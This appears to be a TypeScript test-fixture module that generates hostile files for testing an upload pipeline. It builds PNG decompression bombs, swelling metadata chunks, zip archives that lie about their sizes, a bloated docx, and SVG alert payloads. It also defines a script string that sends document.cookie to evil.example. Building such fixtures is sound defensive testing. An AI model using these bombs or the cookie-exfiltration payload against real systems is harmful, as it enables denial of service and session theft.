/** Hostile files, generated here so that none of them has to be in the repository. */
import { crc32, deflateSync, gzipSync } from 'node:zlib'
import sharp from 'sharp'

export const flat = (width: number, height: number) =>
  sharp({ create: { width, height, channels: 3, background: '#2277aa' }, limitInputPixels: false })

const chunk = (type: string, data: Buffer): Buffer => {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data])
  const out = Buffer.alloc(8 + data.length + 4)
  out.writeUInt32BE(data.length, 0)
  body.copy(out, 4)
  out.writeUInt32BE(crc32(body), out.length - 4)
  return out
}

const header = (width: number, height: number, depth: number): Buffer => {
  const data = Buffer.alloc(13)
  data.writeUInt32BE(width, 0)
  data.writeUInt32BE(height, 4)
  data[8] = depth
  return chunk('IHDR', data)
}

const MAGIC = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a])

/** Black, one bit per pixel: 900 million pixels in a hundred kilobytes. */
export const pngBomb = (side: number): Buffer =>
  Buffer.concat([
    MAGIC,
    header(side, side, 1),
    chunk('IDAT', deflateSync(Buffer.alloc((Math.ceil(side / 8) + 1) * side), { level: 9 })),
    chunk('IEND', Buffer.alloc(0)),
  ])

/** A small picture whose description (`zTXt`, `iCCP`) swells to `bytes` when it is unpacked. */
export const pngWithSwellingChunk = (type: 'zTXt' | 'iCCP', bytes: number): Buffer =>
  Buffer.concat([
    MAGIC,
    header(16, 16, 1),
    chunk(type, Buffer.concat([Buffer.from('note\0\0', 'latin1'), deflateSync(Buffer.alloc(bytes), { level: 9 })])),
    chunk('IDAT', deflateSync(Buffer.alloc(3 * 16))),
    chunk('IEND', Buffer.alloc(0)),
  ])

/** Declares a size and has no pixels. */
export const pngClaiming = (side: number): Buffer =>
  Buffer.concat([MAGIC, header(side, side, 8), chunk('IDAT', deflateSync(Buffer.alloc(10))), chunk('IEND', Buffer.alloc(0))])

export type ZipEntry = { name: string; content: Buffer; claims?: number }

/** A zip archive; `claims` lies about the size an entry unpacks to. */
export function zip(entries: ZipEntry[]): Buffer {
  const locals: Buffer[] = []
  const directory: Buffer[] = []
  let at = 0
  for (const { name, content, claims } of entries) {
    const packed = deflateSync(content, { level: 9 }).subarray(2, -4)
    const title = Buffer.from(name)
    const facts = Buffer.alloc(26)
    facts.writeUInt16LE(20, 0)
    facts.writeUInt16LE(8, 4)
    facts.writeUInt32LE(crc32(content), 10)
    facts.writeUInt32LE(packed.length, 14)
    facts.writeUInt32LE(claims ?? content.length, 18)
    facts.writeUInt16LE(title.length, 22)
    const local = Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), facts, title, packed])
    const tail = Buffer.alloc(14)
    tail.writeUInt32LE(at, 10)
    directory.push(Buffer.concat([Buffer.from('PK\x01\x02\x14\x00', 'latin1'), facts, tail, title]))
    locals.push(local)
    at += local.length
  }
  const list = Buffer.concat(directory)
  const end = Buffer.alloc(18)
  end.writeUInt16LE(entries.length, 4)
  end.writeUInt16LE(entries.length, 6)
  end.writeUInt32LE(list.length, 8)
  end.writeUInt32LE(at, 12)
  return Buffer.concat([...locals, list, Buffer.from('PK\x05\x06', 'latin1'), end])
}

/** What makes an archive a Word document, with a part of it swelling to `bytes`. */
export const docx = (bytes: number): Buffer =>
  zip([
    {
      name: '[Content_Types].xml',
      content: Buffer.concat([
        Buffer.from(
          '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
            '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
        ),
        Buffer.alloc(bytes, ' '),
      ]),
    },
    { name: 'word/document.xml', content: Buffer.from('<w:document/>') },
  ])

export const SCRIPT = '<script>fetch("https://evil.example/?"+document.cookie)</script>'

export const svg = (inside = '<script>alert(1)</script>'): string =>
  `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${inside}</svg>`

export const pdf = (inside = ''): Buffer =>
  Buffer.from(`%PDF-1.7\n${inside}\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n`)

export const gzipped = (text: string): Buffer => gzipSync(text)
